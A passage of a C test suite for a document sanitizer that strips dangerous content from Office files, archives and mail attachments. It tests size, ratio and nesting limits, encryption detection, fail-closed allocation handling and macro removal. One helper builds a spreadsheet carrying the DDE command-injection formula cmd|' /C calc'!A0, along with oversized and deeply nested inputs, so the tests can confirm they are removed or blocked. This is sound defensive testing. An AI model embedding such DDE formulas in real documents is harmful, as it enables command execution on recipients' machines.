		assert_true(has_str(d, "r:embed=\"rId2\""));
		char *rels = zget(&r.out, "word/_rels/document.xml.rels");
		assert_true(has_str(rels, "media/image1.png"));
		free(rels);
	} else {
		assert_true(reported(&r, SK_ACTION_REMOVED, "part", "word/media/image1.png"));
		assert_false(has_str(d, "r:embed"));
		assert_false(zgrep(&r.out, "image1.png"));
	}
	assert_true(has_str(d, "picture above"));
	free(img);
	free(d);
	tu_free(&r);
	sk_buf_free(&in);
}

/* ---- encryption and limits --------------------------------------------------------------- */

static void encrypted_entry(void **state)
{
	(void)state;
	ent e[] = {
		{.name = "[Content_Types].xml", .data = CT_HEAD OVR("/word/document.xml", CT_DOCX) CT_TAIL},
		{.name = "_rels/.rels", .data = ROOT_RELS("word/document.xml")},
		{.name = "word/document.xml", .data = W_DOC(P("secret")), .encrypt = true},
	};
	sk_buf in;
	mkzip(&in, e, 3);
	tu_run r;
	tu_process(in.data, in.len, "enc.docx", NULL, &r);
	assert_verdict(&r, SK_VERDICT_BLOCKED);
	assert_reason(&r, SK_REASON_ENCRYPTED);
	tu_free(&r);
	sk_buf_free(&in);
}

static void limits(void **state)
{
	(void)state;
	/* a part of 1 MiB of zeros: compresses about 1000:1 */
	size_t big = 1u << 20;
	char *zeros = malloc(big + 64);
	assert_non_null(zeros);
	memcpy(zeros, XMLDECL "<a>", strlen(XMLDECL "<a>"));
	memset(zeros + strlen(XMLDECL "<a>"), ' ', big - strlen(XMLDECL "<a>") - 4);
	memcpy(zeros + big - 4, "</a>", 4);
	ent extra[] = {
		{.name = "customXml/item1.xml", .data = zeros, .len = big},
		{.name = "word/styles.xml", .data = XMLDECL "<w:styles" W_NS "/>"},
	};
	sk_buf in;
	docx(&in, CT_DOCX, OVR("/word/styles.xml", OD "wordprocessingml.styles+xml"), W_DOC(P("x")),
	     REL("rId1", "customXml", "../customXml/item1.xml") REL("rId2", "styles", "styles.xml"),
	     extra, 2);
	tu_run r;
	sk_options opt;

	sk_options_default(&opt);
	tu_process(in.data, in.len, "x.docx", &opt, &r);
	assert_reason(&r, SK_REASON_LIMIT_RATIO);
	tu_free(&r);

	sk_options_default(&opt);
	opt.budget.max_ratio = 100000;
	opt.budget.max_expanded = 512 * 1024;
	tu_process(in.data, in.len, "x.docx", &opt, &r);
	assert_reason(&r, SK_REASON_LIMIT_SIZE);
	tu_free(&r);

	sk_options_default(&opt);
	opt.budget.max_ratio = 100000;
	opt.budget.max_entries = 4; /* the package has 6 */
	tu_process(in.data, in.len, "x.docx", &opt, &r);
	assert_reason(&r, SK_REASON_LIMIT_ENTRIES);
	tu_free(&r);

	sk_options_default(&opt);
	opt.budget.max_ratio = 100000;
	run_buf(&in, "x.docx", &opt, &r);
	assert_verdict(&r, SK_VERDICT_CLEAN);
	tu_free(&r);
	sk_buf_free(&in);
	free(zeros);

	/* an embedded image one level too deep: a fatal reason blocks the document */
	ent img[] = {{.name = "word/media/image1.png", .data = (const char *)png1, .len = sizeof(png1)}};
	docx(&in, CT_DOCX, "<Default Extension=\"png\" ContentType=\"image/png\"/>",
	     W_DOC("<w:p><w:r><w:drawing><a:blip r:embed=\"rId2\"/></w:drawing></w:r></w:p>"),
	     REL("rId2", "image", "media/image1.png"), img, 1);
	sk_options_default(&opt);
	opt.budget.max_depth = 0;
	tu_process(in.data, in.len, "x.docx", &opt, &r);
	assert_reason(&r, SK_REASON_LIMIT_DEPTH);
	tu_free(&r);
	sk_buf_free(&in);

	/* XML nested deeper than the parser allows (256) */
	sk_buf deep;
	sk_buf_init(&deep, 0);
	sk_buf_adds(&deep, XMLDECL "<w:document" W_NS "><w:body>");
	for (int i = 0; i < 300; i++)
		sk_buf_adds(&deep, "<w:sdt><w:sdtContent>");
	for (int i = 0; i < 300; i++)
		sk_buf_adds(&deep, "</w:sdtContent></w:sdt>");
	sk_buf_adds(&deep, "</w:body></w:document>");
	docx(&in, CT_DOCX, NULL, sk_buf_str(&deep), NULL, NULL, 0);
	tu_process(in.data, in.len, "x.docx", NULL, &r);
	assert_reason(&r, SK_REASON_MALFORMED);
	tu_free(&r);
	sk_buf_free(&in);

	/* fields nested past FIELD_DEPTH_MAX (64), flat in the XML: 20,000 of them */
	sk_buf_reset(&deep);
	sk_buf_adds(&deep, XMLDECL "<w:document" W_NS "><w:body><w:p>");
	for (int i = 0; i < 20000; i++)
		sk_buf_adds(&deep, FLD("begin"));
	for (int i = 0; i < 20000; i++)
		sk_buf_adds(&deep, FLD("end"));
	sk_buf_adds(&deep, "</w:p></w:body></w:document>");
	docx(&in, CT_DOCX, NULL, sk_buf_str(&deep), NULL, NULL, 0);
	clock_t t0 = clock();
	sk_options_default(&opt);
	opt.budget.max_ratio = 100000; /* repetitive: it compresses well */
	tu_process(in.data, in.len, "x.docx", &opt, &r);
	assert_true(clock() - t0 < 2 * CLOCKS_PER_SEC);
	assert_reason(&r, SK_REASON_MALFORMED);
	tu_free(&r);
	sk_buf_free(&in);
	sk_buf_free(&deep);
}

/* ---- fail closed: allocation failures, node and time limits ----------------------------- */

/* An xlsx whose sheet has `rows` plain rows and then a DDE formula; sharedStrings.xml holds
 * `strings` tiny strings. */
static void xlsx_sst(sk_buf *out, int rows, const sk_buf *sst, bool store_sst);

static void xlsx_dde(sk_buf *out, int rows, int strings)
{
	sk_buf sst;
	sk_buf_init(&sst, 0);
	sk_buf_adds(&sst, XMLDECL "<sst" X_NS ">");
	for (int i = 0; i < strings; i++)
		sk_buf_adds(&sst, "<si><t>x</t></si>");
	sk_buf_adds(&sst, "</sst>");
	xlsx_sst(out, rows, &sst, false);
	sk_buf_free(&sst);
}

/* The same with sharedStrings.xml given (stored, not deflated, when store_sst). */
static void xlsx_sst(sk_buf *out, int rows, const sk_buf *sst, bool store_sst)
{
	sk_buf sheet;
	sk_buf_init(&sheet, 0);
	sk_buf_adds(&sheet, XMLDECL "<worksheet" X_NS "><sheetData>");
	for (int i = 1; i <= rows; i++)
		sk_buf_printf(&sheet, "<row r=\"%d\"><c r=\"A%d\"><v>%d</v></c></row>", i, i, i);
	sk_buf_printf(&sheet, "<row r=\"%d\"><c r=\"A%d\"><f>cmd|' /C calc'!A0</f><v>0</v></c></row>",
		      rows + 1, rows + 1);
	sk_buf_adds(&sheet, "</sheetData></worksheet>");
	ent e[] = {
		{.name = "[Content_Types].xml",
		 .data = CT_HEAD OVR("/xl/workbook.xml", SML "sheet.main+xml")
		 OVR("/xl/worksheets/sheet1.xml", SML "worksheet+xml")
		 OVR("/xl/sharedStrings.xml", SML "sharedStrings+xml") CT_TAIL},
		{.name = "_rels/.rels", .data = ROOT_RELS("xl/workbook.xml")},
		{.name = "xl/workbook.xml",
		 .data = XMLDECL "<workbook" X_NS "><sheets><sheet name=\"Data\" sheetId=\"1\" r:id=\"rId1\"/></sheets></workbook>"},
		{.name = "xl/_rels/workbook.xml.rels",
		 .data = RELS_HEAD REL("rId1", "worksheet", "worksheets/sheet1.xml")
		 REL("rId2", "sharedStrings", "sharedStrings.xml") RELS_TAIL},
		{.name = "xl/worksheets/sheet1.xml", .data = sk_buf_str(&sheet)},
		{.name = "xl/sharedStrings.xml", .data = sk_buf_str(sst), .len = sk_buf_len(sst),
		 .store = store_sst},
	};
	mkzip(out, e, sizeof(e) / sizeof(e[0]));
	sk_buf_free(&sheet);
}

/* Every allocation libxml2 makes while the package is handled fails in turn: each run
 * ends blocked (internal-error), or delivers a package without the DDE formula. Before
 * the fix a truncated tree passed as well-formed and the sheet was copied as it was. */
static void alloc_failures(void **state)
{
	(void)state;
	sk_buf in;
	xlsx_dde(&in, 40, 3);
	tu_run r;
	tu_process(in.data, in.len, "book.xlsx", NULL, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_true(reported(&r, SK_ACTION_REMOVED, "dde", "sheet1.xml"));
	assert_false(zgrep(&r.out, "cmd|"));
	tu_free(&r);

	unsigned blocked = 0, delivered = 0, n;
	for (n = 1;; n++) {
		sk_xml_fail_at = n;
		tu_process(in.data, in.len, "book.xlsx", NULL, &r);
		bool reached = sk_xml_fail_at == 0; /* the nth allocation was made (and failed) */
		sk_xml_fail_at = 0;
		if (r.res.report.verdict == SK_VERDICT_BLOCKED) {
			assert_true(reached);
			assert_reason(&r, SK_REASON_INTERNAL);
			blocked++;
		} else {
			if (zgrep(&r.out, "cmd|"))
				fail_msg("allocation %u failed: the DDE formula was delivered", n);
			delivered++;
		}
		tu_free(&r);
		if (!reached)
			break;
	}
	print_message("# %u allocations: %u blocked, %u delivered without the formula\n", n - 1,
		      blocked, delivered);
	assert_true(n > 100);
	assert_true(blocked >= n - 1); /* every failed allocation blocks */
	sk_buf_free(&in);
}

/* Node limit: a part with more markup starts than max_nodes is not parsed. */
static void node_limit(void **state)
{
	(void)state;
	sk_buf in;
	xlsx_dde(&in, 10, 2000); /* sharedStrings.xml: 4,002 markup starts (<?xml, <sst, 2000 × 2) */
	sk_options opt;
	sk_options_default(&opt);
	opt.budget.max_nodes = 4001;
	tu_run r;
	tu_process(in.data, in.len, "book.xlsx", &opt, &r);
	assert_reason(&r, SK_REASON_LIMIT_NODES);
	assert_string_equal(r.res.report.reason_detail, "xl/sharedStrings.xml");
	tu_free(&r);
	opt.budget.max_nodes = 4002;
	run_buf(&in, "book.xlsx", &opt, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	tu_free(&r);
	sk_buf_free(&in);

	/* the count before parsing and the count of the parse itself */
	sk_budget b;
	sk_budget_default(&b);
	b.max_nodes = 3;
	xmlDoc *d;
	sk_reason why;
	assert_int_equal(sk_xml_read("<a><b/><c/></a>", 15, NULL, &b, &d, &why), 0);
	xmlFreeDoc(d);
	assert_int_equal(sk_xml_read("<a><b/><c/><d/></a>", 19, NULL, &b, &d, &why), SK_EBLOCKED);
	assert_int_equal(why, SK_REASON_LIMIT_NODES);
	assert_null(d);
	/* no markup at all, yet the HTML parser implies html, body and p: stopped at 3 */
	b.max_nodes = 2;
	assert_int_equal(sk_xml_read_html("text", 4, "UTF-8", &b, &d, &why), SK_EBLOCKED);
	assert_int_equal(why, SK_REASON_LIMIT_NODES);
	b.max_nodes = 3;
	assert_int_equal(sk_xml_read_html("text", 4, "UTF-8", &b, &d, &why), 0);
	assert_non_null(d);
	xmlFreeDoc(d);
	assert_int_equal(sk_xml_markup_count("<a></a><!-- c --><?p?>x < y</", 29, 100), 4);
	assert_int_equal(sk_xml_markup_count("<a><a><a><a>", 12, 2), 2);
}

/* The node limit while a part is read (sk_zipio_read_cb, pieces of 64 KiB): a part over
 * the limit is refused before it is read to its end, and the count over pieces is the
 * count over the whole part, even when a piece ends with the '<' of an end tag. */
static void node_limit_streamed(void **state)
{
	(void)state;
	/* 2 MB of tiny strings (repetitive: the ratio limit is raised), a limit of 1000 */
	sk_buf in;
	xlsx_dde(&in, 10, 120000);
	sk_budget b;
	tu_budget(&b, false);
	b.max_ratio = 100000;
	b.max_nodes = 1000;
	assert_int_equal(tu_direct(in.data, in.len, "book.xlsx", &b, NULL), SK_REASON_LIMIT_NODES);
	/* the parts read before it are small; of sharedStrings.xml at most a piece or two */
	assert_true(b.expanded < 256 * 1024);
	tu_budget(&b, false);
	b.max_ratio = 100000;
	assert_int_equal(tu_direct(in.data, in.len, "book.xlsx", &b, NULL), SK_REASON_NONE);
	assert_true(b.expanded > 120000 * 17);
	sk_buf_free(&in);

	/* stored sharedStrings.xml whose byte 65535 (the end of the first piece) is the '<'
	 * of "</t>": the limit set to the part's exact count passes, one less is refused */
	sk_buf sst;
	sk_buf_init(&sst, 0);
	sk_buf_adds(&sst, XMLDECL "<sst" X_NS "><si><t>");
	size_t fill = 65535 - sk_buf_len(&sst);
	for (size_t i = 0; i < fill; i++)
		sk_buf_addc(&sst, 'y');
	sk_buf_adds(&sst, "</t></si>");
	assert_memory_equal(sk_buf_data(&sst) + 65535, "</t>", 4);
	for (int i = 0; i < 3000; i++)
		sk_buf_adds(&sst, "<si><t>x</t></si>");
	sk_buf_adds(&sst, "</sst>");
	uint64_t starts = sk_xml_markup_count(sk_buf_data(&sst), sk_buf_len(&sst), UINT64_MAX);
	assert_int_equal(starts, 2 + 2 + 3000 * 2);
	xlsx_sst(&in, 10, &sst, true);
	sk_options opt;
	sk_options_default(&opt);
	opt.budget.max_nodes = starts;
	tu_run r;
	run_buf(&in, "book.xlsx", &opt, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_true(reported(&r, SK_ACTION_REMOVED, "dde", "sheet1.xml"));
	tu_free(&r);
	opt.budget.max_nodes = starts - 1;
	tu_process(in.data, in.len, "book.xlsx", &opt, &r);
	assert_reason(&r, SK_REASON_LIMIT_NODES);
	assert_string_equal(r.res.report.reason_detail, "xl/sharedStrings.xml");
	tu_free(&r);
	sk_buf_free(&in);
	sk_buf_free(&sst);
}

/* Time limit: an item whose deadline has passed is blocked; the same item with time
 * left is delivered. */
static void time_limit(void **state)
{
	(void)state;
	sk_buf in;
	xlsx_dde(&in, 10, 10);
	sk_budget b;
	tu_budget(&b, true);
	assert_int_equal(tu_direct(in.data, in.len, "book.xlsx", &b, NULL), SK_REASON_LIMIT_TIME);
	tu_budget(&b, false);
	assert_int_equal(tu_direct(in.data, in.len, "book.xlsx", &b, NULL), SK_REASON_NONE);
	/* the parse itself looks at the clock */
	xmlDoc *d;
	sk_reason why;
	tu_budget(&b, true);
	assert_int_equal(sk_xml_read("<a/>", 4, NULL, &b, &d, &why), SK_EBLOCKED);
	assert_int_equal(why, SK_REASON_LIMIT_TIME);
	sk_buf_free(&in);
}

/* ---- detection: encrypted Office, packages without content types ------------------------ */

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)v;
	p[1] = (uint8_t)(v >> 8);
}

static void put32(uint8_t *p, uint32_t v)
{
	for (int i = 0; i < 4; i++)
		p[i] = (uint8_t)(v >> (8 * i));
}

static void ole_dirent(uint8_t *e, const char *name, uint8_t type)
{
	size_t l = strlen(name);
	for (size_t i = 0; i < l; i++)
		e[2 * i] = (uint8_t)name[i];
	put16(e + 0x40, (uint16_t)((l + 1) * 2));
	e[0x42] = type;
}

/* A compound file with 512-byte sectors: header, FAT (sector 0), directory in sectors
 * 1 and 2 (chained through the FAT), with the given stream names in the second. */
static void mkole(uint8_t *f, size_t fsz, const char *s1, const char *s2)
{
	memset(f, 0, fsz);
	memcpy(f, "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1", 8);
	put16(f + 0x1A, 3);
	put16(f + 0x1C, 0xFFFE);
	put16(f + 0x1E, 9);
	put16(f + 0x20, 6);
	put32(f + 0x2C, 1);     /* one FAT sector */
	put32(f + 0x30, 1);     /* directory starts at sector 1 */
	put32(f + 0x3C, 0xFFFFFFFE);
	put32(f + 0x44, 0xFFFFFFFE);
	for (int i = 0; i < 109; i++)
		put32(f + 0x4C + 4 * i, 0xFFFFFFFF);
	put32(f + 0x4C, 0);     /* FAT at sector 0 */
	uint8_t *fat = f + 512;
	for (int i = 0; i < 128; i++)
		put32(fat + 4 * i, 0xFFFFFFFF);
	put32(fat + 0, 0xFFFFFFFD); /* the FAT itself */
	put32(fat + 4, 2);          /* directory: 1 → 2 */
	put32(fat + 8, 0xFFFFFFFE);
	uint8_t *d1 = f + 1024, *d2 = f + 1536;
	ole_dirent(d1, "Root Entry", 5);
	ole_dirent(d1 + 128, "\x06" "DataSpaces", 1);
	ole_dirent(d1 + 256, "Version", 2);
	ole_dirent(d1 + 384, "Other", 2);
	ole_dirent(d2, s1, 2);
	ole_dirent(d2 + 128, s2, 2);
}

static void encrypted_office(void **state)
{
	(void)state;
	uint8_t f[2048 + 512];
	mkole(f, sizeof(f), "EncryptionInfo", "EncryptedPackage");
	sk_input in;
	sk_input_mem(&in, f, sizeof(f));
	sk_type t;
	assert_int_equal(sk_detect(&in, "x.docx", &t, NULL), 0);
	assert_int_equal(t.kind, SK_KIND_OLE2);
	assert_string_equal(t.code, "encrypted-office");
	tu_run r;
	tu_process(f, sizeof(f), "x.docx", NULL, &r);
	assert_reason(&r, SK_REASON_ENCRYPTED);
	tu_free(&r);
	/* strict blocks name mismatches, but this is reported as encrypted first */
	sk_options opt;
	sk_options_default(&opt);
	opt.profile = sk_profile_find("strict");
	tu_process(f, sizeof(f), "x.docx", &opt, &r);
	assert_reason(&r, SK_REASON_ENCRYPTED);
	tu_free(&r);
	/* a legacy document stays a legacy document */
	mkole(f, sizeof(f), "WordDocument", "1Table");
	sk_input_mem(&in, f, sizeof(f));
	assert_int_equal(sk_detect(&in, "x.doc", &t, NULL), 0);
	assert_string_equal(t.code, "ole2");
	tu_process(f, sizeof(f), "x.doc", NULL, &r);
	assert_reason(&r, SK_REASON_UNSUPPORTED_LEGACY_OFFICE);
	tu_free(&r);
}

static void no_content_types_detected(void **state)
{
	(void)state;
	ent e[] = {
		{.name = "_rels/.rels", .data = ROOT_RELS("word/document.xml")},
		{.name = "word/document.xml", .data = W_DOC(P("x"))},
	};
	sk_buf in;
	mkzip(&in, e, 2);
	sk_input i;
	sk_input_mem(&i, in.data, in.len);
	sk_type t;
	assert_int_equal(sk_detect(&i, NULL, &t, NULL), 0);
	sk_input_release(&i);
	assert_int_equal(t.kind, SK_KIND_OOXML);
	assert_string_equal(t.code, "docx");
	sk_buf_free(&in);
}

/* ---- the mat2 corpus ---------------------------------------------------------------------- */

static const char *corpus_dir(void)
{
	static char dir[4096];
	snprintf(dir, sizeof(dir), "%s", tu_src("../shared/corpus/office/mat2"));
	if (access(dir, R_OK) == 0)
		return dir;
	if (access("/work/shared/corpus/office/mat2", R_OK) == 0)
		return "/work/shared/corpus/office/mat2";
	return NULL;
}

static void corpus(void **state)
{
	(void)state;
	const char *dir = corpus_dir();
	if (!dir) {
		print_message("# corpus office/mat2 not found: skipped\n");
		skip();
	}
	DIR *d = opendir(dir);
	assert_non_null(d);
	struct dirent *de;
	int delivered = 0, blocked = 0;
	while ((de = readdir(d))) {
		size_t l = strlen(de->d_name);
		if (l < 5 || (strcmp(de->d_name + l - 5, ".docx") && strcmp(de->d_name + l - 5, ".xlsx")))
			continue;
		char path[8192];
		snprintf(path, sizeof(path), "%s/%s", dir, de->d_name);
		sk_buf b;
		tu_read(path, &b);
		const sk_profile *profiles[] = {sk_profile_default(), sk_profile_find("strict")};
		for (size_t p = 0; p < 2; p++) {
			sk_options opt;
			sk_options_default(&opt);
			opt.profile = profiles[p];
			tu_run r;
			run_buf(&b, de->d_name, &opt, &r);
			print_message("# %s (%s): %s %s\n", de->d_name, profiles[p]->name,
				      sk_verdict_code(r.res.report.verdict), sk_reason_code(r.res.report.reason));
			if (r.res.report.verdict == SK_VERDICT_BLOCKED) {
				assert_int_not_equal(r.res.report.reason, SK_REASON_NONE);
				assert_int_not_equal(r.res.report.reason, SK_REASON_INTERNAL);
				blocked++;
			} else {
				assert_int_equal(r.res.type.kind, SK_KIND_OOXML);
				assert_false(zgrep(&r.out, "dc:creator"));
				assert_false(zhas(&r.out, "docProps/app.xml"));
				delivered++;
			}
			if (!strcmp(de->d_name, "embedded_corrupted.docx"))
				assert_reason(&r, SK_REASON_MALFORMED);
			if (!strcmp(de->d_name, "embedded.docx"))
				assert_false(zhas(&r.out, "word/media/setup.py"));
			if (strstr(de->d_name, "content_types")) {
				assert_verdict(&r, SK_VERDICT_SANITIZED);
				assert_true(reported(&r, SK_ACTION_REPAIRED, "content-types", NULL));
			}
			if (!strcmp(de->d_name, "comment.docx") && p == 0)
				assert_true(zhas(&r.out, "word/comments.xml"));
			if (!strcmp(de->d_name, "comment.docx") && p == 1)
				assert_false(zhas(&r.out, "word/comments.xml"));
			if (!strncmp(de->d_name, "revision", 8) && p == 1) {
				char *doc = zget(&r.out, "word/document.xml");
				assert_false(has_str(doc, "<w:del ") || has_str(doc, "<w:ins "));
				free(doc);
			}
			tu_free(&r);
		}
		sk_buf_free(&b);
	}
	closedir(d);
	print_message("# corpus: %d delivered, %d blocked\n", delivered, blocked);
	assert_true(delivered >= 2 * 11);
}

/* ---- legacy formats: converted by the job's hook, then rebuilt here ------------------ */

/* A convert hook for the tests (the contract of sk_office_convert): checks what it is
 * asked for and answers with the package it holds, or fails with its reason. */
typedef struct fake_office {
	const char *want_from;
	const sk_buf *want_in; /* the bytes it must be given (NULL: any) */
	const sk_buf *reply;   /* NULL: fail */
	sk_reason fail;
	int calls;
	sk_convert_target want_target;
	sk_convert got; /* the last request */
} fake_office;

static int fake_convert(void *ctx, sk_convert *c, const uint8_t *p, size_t n,
			const sk_budget *b, sk_buf *out, sk_reason *reason, sk_error *err)
{
	fake_office *f = ctx;
	f->calls++;
	assert_non_null(b);
	if (f->want_from)
		assert_string_equal(c->from, f->want_from);
	assert_int_equal(c->target, f->want_target);
	f->got = *c;
	if (c->target == SK_CONVERT_IMAGE && f->reply) {
		c->pages = 1;
		snprintf(c->note, sizeof(c->note), "OCR jpn 1");
	}
	if (f->want_in) {
		assert_int_equal(n, f->want_in->len);
		assert_memory_equal(p, f->want_in->data, n);
	}
	sk_buf_reset(out);
	if (!f->reply) {
		*reason = f->fail;
		return sk_error_set(err, SK_EFORMAT, "fake office: %s", sk_reason_code(f->fail));
	}
	return sk_buf_add(out, f->reply->data, f->reply->len);
}

static void legacy_convert(void **state)
{
	(void)state;
	uint8_t f[2048 + 512];
	/* a .doc whose root holds WordDocument (a real tree: root → child 1 → right 2) */
	mkole(f, sizeof(f), "WordDocument", "1Table");
	put32(f + 1024 + 0x4C, 4);            /* root's child: entry 4 (WordDocument) */
	put32(f + 1536 + 0x44, 0xFFFFFFFF);
	put32(f + 1536 + 0x48, 5);            /* its right sibling: 1Table */
	put32(f + 1536 + 0x4C, 0xFFFFFFFF);
	put32(f + 1536 + 128 + 0x44, 0xFFFFFFFF);
	put32(f + 1536 + 128 + 0x48, 0xFFFFFFFF);
	put32(f + 1536 + 128 + 0x4C, 0xFFFFFFFF);
	sk_buf doc;
	sk_buf_init(&doc, 0);
	assert_int_equal(sk_buf_add(&doc, f, sizeof(f)), 0);
	sk_input in;
	sk_type t;
	sk_input_mem(&in, f, sizeof(f));
	assert_int_equal(sk_detect(&in, "x.doc", &t, NULL), 0);
	assert_string_equal(t.code, "doc");

	/* what the converter gives back carries a VBA project: the OOXML module removes it */
	static const char ole[] = "\xD0\xCF\x11\xE0\xA1\xB1\x1A\xE1 fake VBA project";
	ent extra[] = {{.name = "word/vbaProject.bin", .data = ole, .len = sizeof(ole) - 1}};
	sk_buf conv;
	docx(&conv, CT_DOCM, "<Default Extension=\"bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>",
	     W_DOC(P("日本語の本文")),
	     "<Relationship Id=\"rId9\" Type=\"http://schemas.microsoft.com/office/2006/relationships/vbaProject\" Target=\"vbaProject.bin\"/>",
	     extra, 1);
	fake_office fo = {.want_from = "doc", .want_in = &doc, .reply = &conv};
	sk_options opt;
	sk_options_default(&opt);
	opt.convert = fake_convert;
	opt.convert_ctx = &fo;
	tu_run r;
	tu_process(f, sizeof(f), "報告.doc", &opt, &r);
	dump_report(&r);
	assert_int_equal(fo.calls, 1);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_string_equal(r.res.type.code, "doc");
	assert_string_equal(r.res.report.out_ext, "docx");
	check_package(&r.out);
	assert_false(zhas(&r.out, "word/vbaProject.bin"));
	assert_false(zgrep(&r.out, "vbaProject"));
	char *d = zget(&r.out, "word/document.xml");
	assert_true(has_str(d, "日本語の本文"));
	free(d);
	size_t k = 0;
	for (size_t i = 0; i < r.res.report.n; i++) {
		const sk_report_entry *e = &r.res.report.v[i];
		if (e->action == SK_ACTION_CONVERTED && !strcmp(e->what, "file-type") && e->detail &&
		    !strcmp(e->detail, "doc→docx"))
			k++;
	}
	assert_int_equal(k, 1);
	assert_true(reported(&r, SK_ACTION_REMOVED, "macro", NULL));
	tu_free(&r);

	/* nested: the .doc inside a ZIP is converted too, stored under a .docx name */
	ent outer[] = {{.name = "dir/報告.doc", .data = (const char *)f, .len = sizeof(f)},
		       {.name = "readme.txt", .data = "hello\n"}};
	sk_buf zin;
	mkzip(&zin, outer, 2);
	tu_process(zin.data, zin.len, "files.zip", &opt, &r);
	dump_report(&r);
	assert_int_equal(fo.calls, 2);
	assert_verdict(&r, SK_VERDICT_SANITIZED);
	assert_true(zhas(&r.out, "dir/報告.docx"));
	assert_false(zhas(&r.out, "dir/報告.doc"));
	assert_false(zgrep(&r.out, "vbaProject"));
	tu_free(&r);

	/* attached to a mail (attachments rebuilt): converted, re-attached as .docx */
	{
		sk_buf msg;
		sk_buf_init(&msg, 0);
		sk_buf_printf(&msg, "From: a@example.jp\r\nTo: b@example.jp\r\nSubject: doc\r\n"
				    "MIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=\"BB\"\r\n\r\n"
				    "--BB\r\nContent-Type: text/plain; charset=utf-8\r\n\r\nbody\r\n"
				    "--BB\r\nContent-Type: application/msword\r\n"
				    "Content-Disposition: attachment; filename=\"report.doc\"\r\n"
				    "Content-Transfer-Encoding: base64\r\n\r\n");
		static const char b64[] = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/";
		for (size_t i = 0; i < sizeof(f); i += 3) {
			uint32_t v = (uint32_t)f[i] << 16 | (i + 1 < sizeof(f) ? (uint32_t)f[i + 1] << 8 : 0) |
				     (i + 2 < sizeof(f) ? f[i + 2] : 0);
			char q[4] = {b64[v >> 18 & 63], b64[v >> 12 & 63],
				     i + 1 < sizeof(f) ? b64[v >> 6 & 63] : '=', i + 2 < sizeof(f) ? b64[v & 63] : '='};
			sk_buf_add(&msg, q, 4);
			if (i % 57 == 54)
				sk_buf_add(&msg, "\r\n", 2);
		}
		sk_buf_printf(&msg, "\r\n--BB--\r\n");
		sk_mail_options mo;
		sk_mail_options_default(&mo);
		assert_int_equal(sk_mail_options_profile(&mo, "sanitize"), 0);
		mo.convert = fake_convert;
		mo.convert_ctx = &fo;
		sk_buf mout;
		sk_buf_init(&mout, 0);
		sk_mail_result mr;
		sk_report rep;
		sk_report_init(&rep);
		sk_error e;
		assert_int_equal(sk_mail_sanitize(&mo, NULL, msg.data, msg.len, &mout, &mr, &rep, &e), 0);
		assert_int_equal(fo.calls, 3);
		assert_false(mr.held);
		assert_int_equal(mr.reattached, 1);
		assert_non_null(memmem(mout.data, mout.len, "report.docx", 11));
		bool conv_seen = false;
		for (size_t i = 0; i < rep.n; i++)
			conv_seen = conv_seen || (rep.v[i].detail && !strcmp(rep.v[i].detail, "doc→docx"));
		assert_true(conv_seen);
		sk_report_free(&rep);
		sk_buf_free(&mout);
		sk_buf_free(&msg);
	}

	/* the converter fails: blocked with its reason, nothing delivered */
	fake_office bad = {.want_from = "doc", .fail = SK_REASON_ENCRYPTED};
	opt.convert_ctx = &bad;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_ENCRYPTED);
	assert_int_equal(r.out.len, 0);
	tu_free(&r);
	/* inside the ZIP, the same failure (encrypted is fatal) blocks the archive */
	tu_process(zin.data, zin.len, "files.zip", &opt, &r);
	assert_reason(&r, SK_REASON_ENCRYPTED);
	tu_free(&r);
	bad.fail = SK_REASON_MALFORMED;
	tu_process(zin.data, zin.len, "files.zip", &opt, &r);
	assert_verdict(&r, SK_VERDICT_SANITIZED); /* the entry dropped, the rest delivered */
	assert_false(zhas(&r.out, "dir/報告.doc"));
	assert_false(zhas(&r.out, "dir/報告.docx"));
	assert_true(zhas(&r.out, "readme.txt"));
	tu_free(&r);
	/* a converter that fails without a reason still blocks */
	bad.fail = SK_REASON_NONE;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_INTERNAL);
	tu_free(&r);

	/* an answer that is not the OOXML asked for: malformed, never passed on */
	sk_buf notdocx;
	sk_buf_init(&notdocx, 0);
	sk_buf_add(&notdocx, f, sizeof(f));
	fake_office wrong = {.want_from = "doc", .reply = &notdocx};
	opt.convert_ctx = &wrong;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_MALFORMED);
	assert_int_equal(r.out.len, 0);
	tu_free(&r);
	sk_buf xl;
	xlsx_dde(&xl, 2, 2);
	wrong.reply = &xl; /* an xlsx for a doc */
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_MALFORMED);
	tu_free(&r);
	sk_buf_free(&xl);
	sk_buf_free(&notdocx);

	/* the converted package counts against the item's budget */
	opt.convert_ctx = &fo;
	opt.budget.max_expanded = conv.len - 1;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_LIMIT_SIZE);
	tu_free(&r);
	sk_budget_default(&opt.budget);

	/* no hook: blocked as before conversion existed */
	opt.convert = NULL;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_UNSUPPORTED_LEGACY_OFFICE);
	tu_free(&r);

	/* the profile: block, or image (画像化): the hook asked for an image PDF, which the PDF
	 * module rebuilds */
	opt.convert = fake_convert;
	int calls = fo.calls;
	sk_profile p = *sk_profile_default();
	p.name = "legacy-test";
	p.legacy[SK_LEGACY_DOC] = SK_LEGACY_BLOCK;
	opt.profile = &p;
	tu_process(f, sizeof(f), "x.doc", &opt, &r);
	assert_reason(&r, SK_REASON_UNSUPPORTED_LEGACY_OFFICE);
	assert_non_null(strstr(r.res.report.reason_detail, "blocks doc"));
	tu_free(&r);
	p.legacy[SK_LEGACY_DOC] = SK_LEGACY_IMAGE;
	p.image_dpi = 200;
	p.image_max_pages = 7;
	sk_buf pdf;
	sk_buf_init(&pdf, 0);
